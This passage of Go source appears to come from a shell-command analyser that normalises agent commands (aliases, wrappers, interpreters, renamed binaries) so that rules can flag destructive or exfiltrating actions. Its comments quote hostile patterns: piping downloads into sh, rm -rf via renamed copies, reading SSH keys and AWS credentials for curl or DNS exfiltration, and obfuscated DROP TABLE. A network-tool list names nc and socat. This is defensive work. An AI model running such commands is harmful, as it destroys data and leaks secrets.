package shell

import (
	"path"
	"slices"
	"strconv"
	"strings"

	"github.com/ledger-audit/ledger-audit/internal/refilter"
)

// rawCmd is a command line after expansion, before normalisation: the
// fields and, per field, whether it is unknown and which substitutions
// produced it.
type rawCmd struct {
	fields    []string
	unres     []bool
	srcs      [][]Source
	text      string
	redirects []Redirect
	wrappers  []string
	notes     []string
	env       []string // NAME=value assignments for the command only
	valueFrom []string // see Command.ValueFrom
}

// jsRunnerFile reports whether f is "deno run ..." or "bun run" with a
// script file (or "-") rather than a package.json script's name.
func jsRunnerFile(f []string) bool {
	b := path.Base(f[0])
	if f[1] != "run" || b != "deno" && b != "bun" {
		return false
	}
	if b == "deno" {
		return true
	}
	for _, a := range f[2:] {
		if a == "-" {
			return true
		}
		if !strings.HasPrefix(a, "-") {
			return jsScriptExtRe.MatchString(a)
		}
	}
	return false
}

var jsScriptExtRe = refilter.MustCompile(`\.(ts|tsx|js|jsx|mjs|cjs|mts|cts)$`)

// dropField removes the i-th word of a command (and its marks, where
// they were kept for it).
func dropField(r rawCmd, i int) rawCmd {
	r.fields = append(append([]string(nil), r.fields[:i]...), r.fields[i+1:]...)
	if i < len(r.unres) {
		r.unres = append(append([]bool(nil), r.unres[:i]...), r.unres[i+1:]...)
	}
	if i < len(r.srcs) {
		r.srcs = append(append([][]Source(nil), r.srcs[:i]...), r.srcs[i+1:]...)
	}
	return r
}

func newRaw(fields []string) rawCmd {
	r := rawCmd{fields: fields, unres: make([]bool, len(fields)), srcs: make([][]Source, len(fields))}
	for i, f := range fields {
		r.unres[i] = Unknown(f)
	}
	return r
}

// drop returns r without its first n fields.
func (r rawCmd) drop(n int) rawCmd {
	if n > len(r.fields) {
		n = len(r.fields)
	}
	out := r
	out.fields = r.fields[n:]
	out.unres = r.unres[n:]
	out.srcs = r.srcs[n:]
	return out
}

func (r rawCmd) wrap(name string) rawCmd {
	r.wrappers = append(append([]string(nil), r.wrappers...), name)
	return r
}

// emit normalises one command and records it (and whatever it runs). It
// returns the command's standard output when that can be known without
// running anything, and the downloader's name when the command fetches
// from the network to stdout.
func (w *walker) emit(r rawCmd, c ctx, in stdinInfo) (string, bool, string) {
	if len(r.fields) == 0 || w.depth > maxDepth || len(w.out) > maxCommands {
		return "", false, ""
	}
	if len(r.fields) > 1 && r.fields[0] == "lfs" && r.fields[1] == "find" {
		// Lustre's "lfs find /lustre --type f --mtime +90" is find with
		// long options: read as find, so what it lists (for xargs rm)
		// is known.
		r = lfsFind(r)
	}
	if len(r.fields) > 2 && jsRunnerFile(r.fields) {
		// "deno run -A x.ts", "bun run x.ts", "deno run -" (stdin): the
		// runtime runs the file as "deno x.ts" does.
		r = dropField(r, 1)
	}
	name := r.fields[0]
	base := name
	if StartsUnknown(name) && len(r.srcs) > 0 && len(r.srcs[0]) > 0 {
		// "$(curl -s URL)" as a command: the shell runs whatever the
		// substitution printed, as if it were piped into sh.
		w.emit(newRaw([]string{"sh"}), c.with("$(...) as a command"), stdinInfo{sources: r.srcs[0], kind: "pipe"})
	}
	if !Unknown(name) {
		base = path.Base(strings.TrimRight(name, "/"))
		if name == "" {
			base = ""
		}
		if strings.HasPrefix(name, "/") && pathlessBuiltins[base] {
			// "/export", "/system reset-configuration": a shell builtin
			// has no path, so this is another program (a router's CLI,
			// whose commands are written from the root like paths).
			base = name
		}
		if strings.ContainsAny(base, "*?[") {
			// "/bin/r? -rf /", "/usr/bin/[r]m": the shell globs the
			// program path; the programs it can name are what matter.
			if g := globProgram(base); g != "" {
				base = g
			}
		}
		if strings.Contains(name, "/") {
			// "cp /bin/rm /tmp/cleaner", then "/tmp/cleaner -rf /etc": a
			// copy of (or link to) a system program is that program
			// under another name.
			if o, earlier := w.st.originOf(name); o != "" && systemBinDir(path.Dir(o)) {
				base = path.Base(o)
				c.crossCall = c.crossCall || earlier
			}
		}
		if gnuCoreutils[strings.TrimPrefix(base, "g")] && strings.HasPrefix(base, "g") {
			// Homebrew's coreutils on macOS: grm, gshred, gdd are rm,
			// shred, dd.
			base = base[1:]
		}
		if lb := strings.ToLower(base); strings.HasSuffix(lb, ".exe") && exeTools[strings.TrimSuffix(lb, ".exe")] {
			// ncat.exe, curl.exe, ssh.exe on Windows: the same tools.
			base = strings.TrimSuffix(lb, ".exe")
		}
	}
	args := r.drop(1)

	// Aliases and functions come first, as in a shell (only for bare names).
	if !strings.Contains(name, "/") {
		if a, ok := w.st.Aliases[name]; ok && !contains(c.via, "alias:"+name) {
			if w.st.earlier("alias:" + name) {
				c.crossCall = true
			}
			rest := args.fields
			if strings.HasSuffix(a, " ") && len(rest) > 0 {
				// An alias ending in a blank makes the shell expand the
				// next word as an alias too: alias g='git ' fp='push
				// --force origin main', then "g fp".
				if b, ok := w.st.Aliases[rest[0]]; ok {
					a += b
					rest = rest[1:]
				}
			}
			text := a + " " + joinQuoted(rest)
			if psOnly[strings.ToLower(a)] {
				// A PowerShell alias (Set-Alias x Remove-Item): its
				// arguments are Windows words the POSIX expansion mangled
				// (C:\Users lost its backslashes); take them as written.
				if t := strings.TrimSpace(r.text); strings.HasPrefix(t, name) {
					text = a + t[len(name):]
				}
			}
			w.depth++
			_ = w.script(text, c.with("alias:"+name))
			w.depth--
			return "", false, ""
		}
		if body, ok := w.st.Funcs[name]; ok {
			if contains(c.funcs, name) {
				cmd := w.record(r, base, c, in)
				cmd.Notes = append(cmd.Notes, "recursive-call")
				if c.background || c.pipeLen > 1 {
					cmd.Notes = append(cmd.Notes, "fork-bomb")
				}
				w.out[len(w.out)-1] = cmd
				return "", false, ""
			}
			if w.st.earlier("func:" + name) {
				c.crossCall = true
			}
			fc := c.with("function:" + name)
			fc.funcs = append(append([]string(nil), c.funcs...), name)
			fc.pos = append([]string{name}, args.fields...)
			if words := winSplit(r.text); len(words) > 1 && psParamRe.MatchString(body) {
				// A PowerShell function: its arguments as written (the
				// POSIX expansion ate C:\Users' backslashes).
				w.psBindParams(body, words[1:])
			} else if len(words) > 1 && strings.Contains(body, "$args[") {
				// ... or its automatic $args array.
				body = psArgsRe.ReplaceAllStringFunc(body, func(m string) string {
					if n, err := strconv.Atoi(m[len("$args[") : len(m)-1]); err == nil && n+1 < len(words) {
						return quote(winPath(strings.Trim(words[n+1], `"'`)))
					}
					return m
				})
			}
			w.depth++
			_ = w.script(body, fc)
			w.depth--
			return "", false, ""
		}
	}

	if base == "env" {
		// env -S 'STRING': the string is split into the command line.
		for i, a := range r.fields[1:] {
			if (a == "-S" || a == "--split-string") && i+2 < len(r.fields) {
				w.sub(strings.Join(r.fields[i+2:], " "), c.with("env -S"), nil)
				return "", false, ""
			}
			if strings.HasPrefix(a, "--split-string=") {
				w.sub(strings.TrimPrefix(a, "--split-string=")+" "+strings.Join(r.fields[i+2:], " "), c.with("env -S"), nil)
				return "", false, ""
			}
		}
	}
	if base == "flock" {
		// "flock LOCKFILE -c 'CMD'": the command line runs in a shell.
		for i, a := range r.fields[1:] {
			if (a == "-c" || a == "--command") && i+2 < len(r.fields) {
				w.sub(r.fields[i+2], c.with("flock -c"), nil)
				return "", false, ""
			}
		}
	}
	if base == "parallel" && (slices.Contains(r.fields, "--dry-run") || slices.Contains(r.fields, "--dryrun")) {
		// parallel --dry-run prints the commands it would run.
		return "", false, ""
	}
	if base == "parallel" {
		// "parallel ::: 'cmd one' 'cmd two'": with no command of its
		// own, GNU parallel runs each argument as a shell command line.
		if cmds, ok := parallelCommands(r.fields[1:]); ok {
			for _, cl := range cmds {
				w.sub(cl, c.with("parallel"), nil)
			}
			return "", false, ""
		}
	}
	if base == "npm" || base == "pnpm" || base == "yarn" || base == "bun" {
		if nr, line, ok := pkgRunner(base, r); ok {
			if line != "" {
				w.sub(line, c.with(base), nil)
				return "", false, ""
			}
			return w.emit(nr.wrap(base), c.with(base), in)
		}
	}
	if nr, via, ok := unwrap(base, r); ok {
		nr = nr.wrap(base)
		nc := c.with(via)
		if base == "xargs" || base == "parallel" {
			return w.emitXargs(base, nr, nc, in)
		}
		return w.emit(nr, nc, in)
	}

	switch base {
	case "alias":
		for _, a := range args.fields {
			if k, v, ok := strings.Cut(a, "="); ok {
				w.st.Aliases[k] = v
				w.st.origin["alias:"+k] = w.st.gen
			}
		}
	case "unalias":
		for _, a := range args.fields {
			delete(w.st.Aliases, a)
		}
	case "unset":
		for _, a := range args.fields {
			if !strings.HasPrefix(a, "-") {
				w.st.unset(a)
			}
		}
	case "export", "declare", "typeset", "local", "readonly":
		// Reached only through wrappers or eval (the parser turns the
		// plain form into a DeclClause).
		for _, a := range args.fields {
			if k, v, ok := strings.Cut(a, "="); ok && validName(k) {
				w.st.setVar(k, v)
			}
		}
	case "cd":
		w.chdir(args.fields)
	case "pushd":
		// The directory left is remembered for popd (an unknown one as "").
		if len(w.st.DirStack) < 64 {
			w.st.DirStack = append(w.st.DirStack, w.st.Cwd)
		}
		w.chdir(args.fields)
	case "popd":
		if n := len(w.st.DirStack); n > 0 {
			w.st.Cwd, w.st.DirStack = w.st.DirStack[n-1], w.st.DirStack[:n-1]
			w.st.CwdByCd = w.st.Cwd != ""
		} else {
			w.st.Cwd, w.st.CwdByCd = "", false
		}
	case "printf":
		// printf -v NAME FORMAT ARGS assigns instead of printing.
		if len(args.fields) >= 3 && args.fields[0] == "-v" && validName(args.fields[1]) {
			if out, ok := staticOut("printf", args.fields[2:], stdinInfo{}, w.st); ok {
				w.st.setVar(args.fields[1], out)
			} else {
				w.st.setVar(args.fields[1], unkOpen+args.fields[1]+unkClose)
			}
		}
	case "read":
		var names []string
		arr := "" // read -a NAME (also -ra): the words go into an array
		for i := 0; i < len(args.fields); i++ {
			a := args.fields[i]
			switch {
			case (a == "-a" || flagCluster(a) && strings.HasSuffix(a, "a")) && i+1 < len(args.fields):
				arr = args.fields[i+1]
				i++
			case a == "-d" || a == "-p" || a == "-t" || a == "-n" || a == "-N" || a == "-u" || a == "-a":
				i++
			case strings.HasPrefix(a, "-"):
			case validName(a):
				names = append(names, a)
			}
		}
		// Words split on IFS, set for the command (IFS=_ read a b) or
		// earlier; whitespace by default.
		words := splitIFS(strings.SplitN(in.content, "\n", 2)[0], w.envValue(r.env, "IFS"))
		if validName(arr) {
			if in.known {
				w.st.setArray(arr, words)
			} else {
				w.st.setArray(arr, []string{unkOpen + arr + unkClose})
			}
		}
		from := ""
		if !in.known && len(in.sources) > 0 {
			// "LISTING | while read n; do ... $n": the names hold what the
			// listing printed.
			s0 := in.sources[0]
			from = "$(" + strings.TrimSpace(s0.Name+" "+strings.Join(s0.Args, " ")) + ")"
		}
		for i, n := range names {
			v := unkOpen + n + unkClose
			if in.known {
				v = ""
				if i < len(words) {
					v = words[i]
					if i == len(names)-1 {
						v = strings.Join(words[i:], " ")
					}
				}
			}
			w.st.setVar(n, v)
			if from != "" {
				if w.st.VarFrom == nil {
					w.st.VarFrom = map[string]string{}
				}
				w.st.VarFrom[n] = from
			}
		}
	case "set":
		for i, a := range args.fields {
			if a == "--" {
				w.setPos = append([]string{}, args.fields[i+1:]...)
				break
			}
		}
	case "aws":
		// AWS_ENDPOINT_URL (exported earlier or set for the command)
		// points the CLI where --endpoint-url would: LocalStack's
		// localhost is as local with either spelling.
		if ep := w.envValue(r.env, "AWS_ENDPOINT_URL"); ep != "" && !Unknown(ep) && !containsPrefix(args.fields, "--endpoint-url") {
			r.fields = append(append([]string(nil), r.fields...), "--endpoint-url", ep)
			r.unres = append(append([]bool(nil), r.unres...), false, false)
			r.srcs = append(append([][]Source(nil), r.srcs...), nil, nil)
		}
	case "rimraf":
		// The npm package is "rm -rf" under another name.
		r.fields = append([]string{"rm", "-r", "-f"}, args.fields...)
		r.unres = append([]bool{false, false, false}, args.unres...)
		r.srcs = append([][]Source{nil, nil, nil}, args.srcs...)
		return w.emit(r.wrap("rimraf"), c.with("rimraf"), in)
	}

	cmd := w.record(r, base, c, in)
	idx := len(w.out) - 1

	// What the command runs, if it is a shell, interpreter, eval, source,
	// find -exec, or runs a file written earlier.
	w.runs(&cmd, args, c, in)
	w.out[idx] = cmd

	w.trackFiles(cmd, in, c)
	if base == "sed" || base == "gsed" {
		// "echo 'rm -rf ~' | sed e": sed's e command runs its lines.
		if text, exec, ok := sedOut(cmd.Args, in, w.st); ok && exec {
			w.emit(newRaw([]string{"sh"}), c.with("sed e"), stdinInfo{content: text, known: true, kind: "pipe", sources: []Source{{Kind: "pipe", Name: "sed", Text: cmd.String()}}})
		}
	}
	out, known := staticOut(base, cmd.Args, in, w.st)
	dl := ""
	if isDownloader(cmd) {
		dl = cmd.String()
	}
	return out, known, dl
}

// stdinText is what a command reads on stdin when that is known
// ("echo RFJPUC... | base64 -d | mysql": the decoded statement).
func stdinText(in stdinInfo) string {
	if !in.known {
		return ""
	}
	return clip(in.content, 64<<10)
}

// envSelectors are the variables frameworks read to pick the environment
// or database they act on.
var envSelectors = []string{"RAILS_ENV", "RACK_ENV", "APP_ENV", "NODE_ENV", "MIX_ENV", "DJANGO_ENV",
	"FLASK_ENV", "ENV", "ENVIRONMENT", "STAGE", "DATABASE_URL", "DB_URL", "DATABASE_URI",
	"SQLALCHEMY_URL", "SQLALCHEMY_DATABASE_URI", "DB_HOST", "PGHOST", "MYSQL_HOST", "PGDATABASE", "MYSQL_DATABASE", "FIRESTORE_EMULATOR_HOST", "DJANGO_SETTINGS_MODULE",
	"AIRFLOW__DATABASE__SQL_ALCHEMY_CONN", "AIRFLOW__CORE__SQL_ALCHEMY_CONN", "TF_WORKSPACE", "GIT_STASHED",
	"AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_S3", "AWS_ENDPOINT_URL_DYNAMODB", "AWS_PROFILE", "KUBECONFIG"}

func isSelector(name string) bool {
	for _, s := range envSelectors {
		if s == name {
			return true
		}
	}
	return false
}

// withSelectors adds to a command's own assignments the environment
// selectors set earlier in the session ("export DATABASE_URL=...localhost
// ..." in one call, "npx prisma migrate reset" in the next), unless the
// command assigns them itself.
func (w *walker) withSelectors(env []string) []string {
	out := env
	for _, name := range envSelectors {
		v, ok := w.st.Vars[name]
		if !ok {
			// Written to a .env file the framework loads.
			if v, ok = w.st.FileEnv[name]; !ok {
				continue
			}
		}
		own := false
		for _, e := range env {
			if strings.HasPrefix(e, name+"=") {
				own = true
			}
		}
		if !own {
			if len(out) == len(env) {
				out = append([]string(nil), env...)
			}
			out = append(out, name+"="+v)
		}
	}
	return out
}

// record appends the normalised command to the output and returns it.
func (w *walker) record(r rawCmd, base string, c ctx, in stdinInfo) Command {
	args := r.drop(1)
	cmd := Command{
		Dir: w.st.Cwd, DirByCd: w.st.CwdByCd && w.st.Cwd != "",
		Name: base, Program: r.fields[0], Args: append([]string(nil), args.fields...), Text: r.text,
		Via: append([]string(nil), c.via...), Redirects: r.redirects,
		PipeIndex: c.pipeIdx, PipeLen: max(c.pipeLen, 1), PipeID: c.pipeID,
		Wrappers: r.wrappers, Notes: append([]string(nil), r.notes...), Stdin: in.sources, StdinText: stdinText(in),
		Env: w.withSelectors(r.env), ValueFrom: r.valueFrom, Host: c.host,
	}
	if c.pipeLen == 0 {
		cmd.PipeIndex, cmd.PipeLen, cmd.PipeID = 0, 1, 0
	}
	if cmd.Text == "" {
		cmd.Text = cmd.String()
	}
	if sqlClients[base] {
		// "dRoP/**/TaBlE users": SQL comments separate words as spaces
		// do.
		for i, a := range cmd.Args {
			if strings.Contains(a, "/*") {
				cmd.Args[i] = sqlCommentRe.ReplaceAllString(a, " ")
			}
		}
		if strings.Contains(cmd.StdinText, "/*") {
			cmd.StdinText = sqlCommentRe.ReplaceAllString(cmd.StdinText, " ")
		}
		// Text inside SQL string literals is data: "... WHERE query ILIKE
		// '%drop table%'" drops nothing. Unless the output feeds another
		// command: "SELECT 'DROP TABLE ' || name ..." | psql runs it.
		for i, a := range cmd.Args {
			if cmd.PipeIndex == cmd.PipeLen-1 && len(cmd.Redirects) == 0 && strings.Contains(a, "'") && sqlStmtRe.MatchString(a) {
				cmd.Args[i] = sqlLiteralRe.ReplaceAllString(a, "''")
			}
		}
	}
	for i, u := range args.unres {
		if u {
			cmd.Unresolved = append(cmd.Unresolved, i)
		}
	}
	for _, srcs := range args.srcs {
		for _, s := range srcs {
			if !containsSource(cmd.ArgsFrom, s) {
				cmd.ArgsFrom = append(cmd.ArgsFrom, s)
			}
		}
	}
	if len(w.st.Origins) > 0 {
		check := func(p string) {
			if o, earlier := w.st.originOf(p); o != "" {
				cmd.Origins = append(cmd.Origins, o)
				cmd.Copies = append(cmd.Copies, [2]string{p, o})
				if earlier {
					c.crossCall = true
				}
			}
		}
		for _, a := range cmd.Args {
			if i := strings.Index(a, "@"); i >= 0 && (i == 0 || a[i-1] == '=') {
				// curl -F f=@FILE, --data-binary @FILE: the file is read.
				check(a[i+1:])
			}
			if !strings.HasPrefix(a, "-") {
				check(a)
				if t := w.st.throughLink(a); t != "" {
					cmd.Through = append(cmd.Through, t)
				} else if followsLinks[base] || base == "find" && (contains(cmd.Args, "-L") || contains(cmd.Args, "-H") || contains(cmd.Args, "-follow")) {
					// chmod/chown act on what a link on the command line
					// points to, not on the link; find -L walks into it.
					if o, ok := w.st.Links[CleanPath(a)]; ok {
						cmd.Through = append(cmd.Through, o)
					}
				}
			}
		}
		for _, rd := range cmd.Redirects {
			if rd.Op == "<" {
				check(rd.Target)
			}
		}
	}
	if c.crossCall || w.crossCall {
		cmd.Notes = append(cmd.Notes, "cross-call")
	}
	if host := w.tunnelOf(cmd.Args); host != "" {
		// localhost on a forwarded port is the far host.
		cmd.Notes = append(cmd.Notes, "tunneled")
		cmd.Env = append(cmd.Env, "TUNNEL_HOST="+host)
	}
	if c.background {
		cmd.Notes = append(cmd.Notes, "background")
	}
	if kubeTools[base] {
		if kc := w.st.Vars[KubeContextKey]; kc != "" && !Unknown(kc) {
			// The context chosen earlier ("kubectl config use-context
			// kind-dev"), seen by the rules as KUBECONTEXT.
			cmd.Env = append(cmd.Env, "KUBECONTEXT="+kc)
		}
	}
	w.out = append(w.out, cmd)
	return cmd
}

// resendValues walks again, as substitutions of the command using them,
// the substitutions that a network sender's variables were assigned from
// (KEY=$(base64 ~/.ssh/id_ed25519) earlier, now curl -d "k=$KEY"): what
// they read is what leaves, not only what a variable holds. It runs
// after the call's commands are recorded, which later code may still
// update in place.
func (w *walker) resendValues(cmds []Command, c ctx) {
	var texts []string
	for _, cmd := range cmds {
		// Senders, and printers whose output reaches the agent: K=$(cat
		// ~/.aws/credentials) in one call, echo "$K" in the next, shows
		// the file as surely as cat would.
		// (${#K} prints a length: no word is left unresolved.)
		printed := (cmd.Name == "echo" || cmd.Name == "printf") && len(cmd.Unresolved) > 0 && (cmd.PipeLen <= 1 || cmd.PipeIndex == cmd.PipeLen-1) && !writesOut(cmd.Redirects)
		if !netSenders[cmd.Name] && !psWebCmdlet(cmd.Name) && !printed {
			continue
		}
		if cmd.Name == "ssh" && remoteArgument(cmds) {
			// K=$(pass show wifi) && ssh router "uci set ...key=$K": the
			// remote program takes the values, as a local one would; a
			// remote echo or curl of them is caught as one.
			continue
		}
		for _, vf := range cmd.ValueFrom {
			// K="$(cat ~/.ssh/id_ed25519)" is the same substitution.
			if len(vf) > 1 && vf[0] == '"' && vf[len(vf)-1] == '"' {
				vf = vf[1 : len(vf)-1]
			}
			if strings.HasPrefix(vf, "$(") && strings.HasSuffix(vf, ")") && !contains(texts, vf) {
				texts = append(texts, vf)
			}
		}
	}
	for _, t := range texts {
		w.sub(t[2:len(t)-1], c.with("$(...)"), nil)
	}
}

// psWebCmdlet reports whether name is PowerShell's web request cmdlet
// or one of its aliases: it sends what it is given, as curl does.
func psWebCmdlet(name string) bool {
	for _, n := range []string{"Invoke-RestMethod", "Invoke-WebRequest", "irm", "iwr"} {
		if strings.EqualFold(name, n) {
			return true
		}
	}
	return false
}

// remoteArgument reports whether the commands ssh ran on its host take
// the values it sent as arguments, none of them printing or sending
// them on: the values themselves are not named remotely (the remote line
// holds them as unresolved words), so this looks at every such command.
func remoteArgument(cmds []Command) bool {
	used := false
	for _, rc := range cmds {
		if len(rc.Via) == 0 || rc.Via[len(rc.Via)-1] != "ssh" || len(rc.Unresolved) == 0 {
			continue
		}
		switch {
		case netSenders[rc.Name], rc.Name == "echo", rc.Name == "printf", rc.Name == "cat", rc.Name == "tee", rc.Name == "", rc.Name == "(assign)", Unknown(rc.Name):
			return false
		}
		used = true
	}
	return used
}

// sourceLineRe finds a shell line sourcing a file: "source F", ". F".
var sourceLineRe = refilter.MustCompile(`(?:^|[;&|(]\s*|\s)(?:(?:source|\.)\s+["']?([^\s;&|"']+)|(?:(?:sh|bash|zsh|nohup|exec)\s+)?["']?((?:~|\.)?/[^\s;&|"')]+))`)

// followsLinks are programs that act on the target of a symbolic link
// named on their command line.
var followsLinks = map[string]bool{"chmod": true, "chown": true, "chgrp": true, "setfacl": true, "chattr": true}

// netSenders send their arguments' data over the network: HTTP and
// socket clients, and the lookups and pings that carry data in a name
// or a payload ("dig $K.example.net", "ping -p $HEX host").
var netSenders = map[string]bool{
	"curl": true, "wget": true, "nc": true, "ncat": true, "netcat": true, "socat": true,
	"http": true, "https": true, "xh": true, "telnet": true,
	"dig": true, "host": true, "nslookup": true, "drill": true, "kdig": true, "delv": true, "resolvectl": true,
	"ping": true, "ping6": true, "hping3": true, "gh": true, "swaks": true, "ssh": true,
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func validName(s string) bool {
	if s == "" {
		return false
	}
	for i, r := range s {
		if r == '_' || r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || i > 0 && r >= '0' && r <= '9' {
			continue
		}
		return false
	}
	return true
}

func joinQuoted(fs []string) string {
	var b strings.Builder
	for i, f := range fs {
		if i > 0 {
			b.WriteByte(' ')
		}
		b.WriteString(quote(f))
	}
	return b.String()
}

// ---- what a command runs ----

var shells = map[string]bool{
	"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "ash": true, "mksh": true,
	"fish": true, "rbash": true, "yash": true, "posh": true, "csh": true, "tcsh": true, "ksh93": true,
}

// fdAsFind is fd's command line with -x/-X as the find command that
// does the same, or "" when fd runs nothing.
func fdAsFind(f []string) string {
	valued := map[string]bool{"-e": true, "--extension": true, "-t": true, "--type": true, "-d": true, "--max-depth": true,
		"-E": true, "--exclude": true, "-S": true, "--size": true, "--changed-within": true, "--changed-before": true, "-j": true, "--threads": true, "--min-depth": true}
	var pos, exec []string
	glob := false
	ext := ""
	for i := 0; i < len(f); i++ {
		a := f[i]
		switch {
		case (a == "-e" || a == "--extension") && i+1 < len(f):
			i++
			ext = f[i]
		case a == "-x" || a == "--exec" || a == "-X" || a == "--exec-batch":
			exec = f[i+1:]
			i = len(f)
		case a == "-g" || a == "--glob":
			glob = true
		case valued[a]:
			i++
		case strings.HasPrefix(a, "-"):
		default:
			pos = append(pos, a)
		}
	}
	if len(exec) == 0 {
		return ""
	}
	name := "*"
	if len(pos) > 0 {
		if glob {
			name = pos[0]
		} else if lit := regexLiteralPrefix(pos[0]); lit != "" {
			name = lit + "*"
		}
		pos = pos[1:]
	}
	if ext != "" && name == "*" {
		name = "*." + strings.TrimPrefix(ext, ".")
	}
	if len(pos) == 0 {
		pos = []string{"."}
	}
	var b strings.Builder
	for _, p := range pos {
		b.WriteString("find " + quote(p) + " -name " + quote(name) + " -exec")
		for _, e := range exec {
			b.WriteString(" " + quote(e))
		}
		b.WriteString(" {} +; ")
	}
	return b.String()
}

// regexLiteralPrefix is the literal text a regex starts with ("^id_(rsa)"
// gives "id_").
func regexLiteralPrefix(re string) string {
	re = strings.TrimPrefix(re, "^")
	var b strings.Builder
	for i := 0; i < len(re); i++ {
		c := re[i]
		if strings.IndexByte(`.*+?()[]{}|^$\`, c) >= 0 {
			break
		}
		b.WriteByte(c)
	}
	return b.String()
}

// cmdLocal names a script or program cmd.exe finds in the current
// directory first ("cmd /c setup.bat") by its path, as POSIX needs.
func cmdLocal(line string) string {
	if f := strings.Fields(line); len(f) > 0 && !strings.ContainsAny(f[0], "/\\:%$") && winScriptExtRe.MatchString(f[0]) {
		return "./" + strings.TrimLeft(line, " \t")
	}
	return line
}

var winScriptExtRe = refilter.MustCompile(`(?i)\.(bat|cmd|ps1|exe|vbs|js)$`)

// winScriptHosts run a script or library file named on their command line.
var winScriptHosts = map[string]bool{"cscript": true, "cscript.exe": true, "wscript": true, "wscript.exe": true, "mshta": true, "mshta.exe": true,
	"rundll32": true, "rundll32.exe": true, "regsvr32": true, "regsvr32.exe": true}

// noFlagClusters are the interpreters whose code switch does not end a
// cluster of single-letter switches (perl -le CODE does; lua does not).
var noFlagClusters = map[string]bool{"lua": true, "applescript": true, "r": true, "java": true, "julia": true, "haskell": true, "elixir": true, "clojure": true}

// IsShell reports whether name is a POSIX-like shell interpreter.
func IsShell(name string) bool { return shells[name] }

// Interpreter returns the language of a script interpreter ("python",
// "perl", "ruby", "node", "php", "lua"), or "".
func Interpreter(name string) string {
	switch {
	case strings.HasPrefix(name, "python"), name == "pypy", name == "pypy3", name == "ipython", name == "py":
		// py is the Python launcher on Windows.
		return "python"
	case name == "perl" || strings.HasPrefix(name, "perl5"):
		return "perl"
	case name == "ruby" || name == "irb":
		return "ruby"
	case name == "node" || name == "nodejs" || name == "deno" || name == "bun":
		return "node"
	case name == "php" || strings.HasPrefix(name, "php"):
		return "php"
	case name == "lua" || strings.HasPrefix(name, "lua5") || name == "luajit":
		return "lua"
	case name == "osascript":
		return "applescript"
	case name == "awk" || name == "gawk" || name == "mawk" || name == "nawk" || name == "busybox-awk":
		return "awk"
	case name == "Rscript":
		return "r"
	case name == "julia":
		return "julia"
	case name == "tclsh" || strings.HasPrefix(name, "tclsh8") || name == "wish":
		return "tcl"
	case name == "groovy" || name == "jshell" || name == "scala-cli" || name == "amm":
		// (scala-cli -e CODE and Ammonite's scripts run on the JVM with
		// Java's library.)
		return "java"
	case name == "bb" || name == "clojure" || name == "clj" || name == "nbb":
		// Babashka and the Clojure CLI: clojure -M -e CODE.
		return "clojure"
	case name == "elixir" || name == "iex":
		return "elixir"
	case name == "ghc" || name == "ghci" || name == "runghc" || name == "runhaskell":
		// ghc -e EXPR evaluates one expression.
		return "haskell"
	case name == "ocaml" || name == "utop":
		return "ocaml"
	}
	return ""
}

func (w *walker) runs(cmd *Command, args rawCmd, c ctx, in stdinInfo) {
	name := cmd.Name
	if name == "mongosh" || name == "mongo" {
		// db["drop" + "Database"](): the shell's JavaScript spelling a
		// method's name in pieces reads as the method.
		for i, a := range cmd.Args {
			if strings.Contains(a, "[") && strings.Contains(a, "+") {
				cmd.Args[i] = jsPropFold(a)
			}
		}
	}
	w.compiled(cmd, args.fields, c)
	if configTriggers[name] != nil && len(w.st.Files) > 0 {
		w.runTriggers(configTriggers[name], cmd, c)
	}
	if n := len(cmd.Wrappers); n > 0 && (cmd.Wrappers[n-1] == "pdm" || cmd.Wrappers[n-1] == "hatch") {
		// "pdm run NAME", "hatch run NAME": a script pyproject.toml
		// defines under that name runs, not a program.
		runner := cmd.Wrappers[n-1]
		w.runTaskFile([]string{"pyproject.toml"}, runner+" run "+name, c, func(content string) []string {
			return namedScripts(runner, content, []string{name})
		})
	}
	if n := len(cmd.Wrappers); n > 0 && cmd.Wrappers[n-1] == "pipenv" {
		// "pipenv run NAME": the Pipfile's [scripts] entry of that name.
		w.runTaskFile([]string{"Pipfile"}, "pipenv run "+name, c, func(content string) []string {
			return namedScripts("pipenv", content, []string{name})
		})
	}
	if name == "bolt" && len(args.fields) > 2 && args.fields[0] == "command" && args.fields[1] == "run" {
		// bolt command run CMD --targets ...: CMD runs on every target.
		w.sub(args.fields[2], c.with("bolt command run"), nil)
	}
	if name == "puppet" && len(args.fields) > 1 && args.fields[0] == "apply" {
		// puppet apply -e CODE, or a manifest the session wrote: the
		// exec resources' commands run here.
		for i := 1; i < len(args.fields); i++ {
			a := args.fields[i]
			switch {
			case (a == "-e" || a == "--execute") && i+1 < len(args.fields):
				for _, l := range puppetCommands(args.fields[i+1]) {
					w.sub(l, c.with("puppet apply -e"), nil)
				}
				i++
			case strings.HasSuffix(a, ".pp"):
				w.runTaskFile([]string{a}, "puppet apply "+a, c, puppetCommands)
			}
		}
	}
	if name == "repo" && len(args.fields) > 1 && args.fields[0] == "forall" {
		// repo forall [PROJECTS] -c CMD: CMD runs in a shell in every
		// project of the manifest, as git submodule foreach does.
		for i := 1; i+1 < len(args.fields); i++ {
			if args.fields[i] == "-c" || args.fields[i] == "--command" {
				w.sub(strings.Join(args.fields[i+1:], " "), c.with("repo forall"), nil)
				break
			}
		}
	}
	if name == "wp" {
		// WP-CLI runs PHP: "wp eval 'CODE'", "wp eval-file FILE", after
		// a site alias (@prod) or global options (--path=...).
		i := 0
		for i < len(args.fields) && (strings.HasPrefix(args.fields[i], "@") || strings.HasPrefix(args.fields[i], "--")) {
			i++
		}
		if i+1 < len(args.fields) && (args.fields[i] == "eval" || args.fields[i] == "eval-file") {
			sub, arg := args.fields[i], args.fields[i+1]
			if i+1 < len(args.srcs) {
				// wp eval "$(curl URL)": the code comes from there.
				cmd.CodeFrom = append(cmd.CodeFrom, args.srcs[i+1]...)
			}
			if sub == "eval-file" {
				w.runFile(cmd, arg, c.with("wp eval-file").with("script:"+CleanPath(arg)), args.fields[i+1:])
			} else {
				for _, it := range extractCode("php", arg) {
					w.codeItem(it, c.with("wp eval"))
				}
			}
		}
	}
	if name == "drush" {
		// Drush runs PHP too: "drush @prod php:script FILE", "drush
		// php:eval 'CODE'" (ev, scr are their aliases).
		i := 0
		for i < len(args.fields) && (strings.HasPrefix(args.fields[i], "@") || strings.HasPrefix(args.fields[i], "-")) {
			i++
		}
		if i+1 < len(args.fields) {
